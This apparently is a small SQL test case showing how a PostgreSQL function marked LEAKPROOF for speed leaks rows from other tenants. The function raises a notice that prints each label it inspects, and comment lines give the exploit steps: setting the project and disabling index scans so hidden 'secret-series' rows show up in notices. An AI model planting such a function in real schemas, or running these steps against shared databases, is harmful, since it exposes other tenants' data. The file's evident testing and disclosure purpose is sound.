-- Tenant A sees hidden series in notices of a label function that was marked leakproof for speed.
-- about: has_label
-- as: ho_metrics_query
-- exploit: SET ts.project = '1';
-- exploit: SET enable_indexscan = off;
-- exploit: SET enable_bitmapscan = off;
-- exploit: SELECT count(*) FROM ts.series WHERE ts.has_label(name, 'x');
-- shows: looking at secret-series
CREATE FUNCTION ts.has_label(labels text, wanted text) RETURNS boolean LANGUAGE plpgsql STABLE LEAKPROOF
  COST 0.1
AS $$
BEGIN
  RAISE NOTICE 'looking at %', labels;
  RETURN labels = wanted;
END $$;
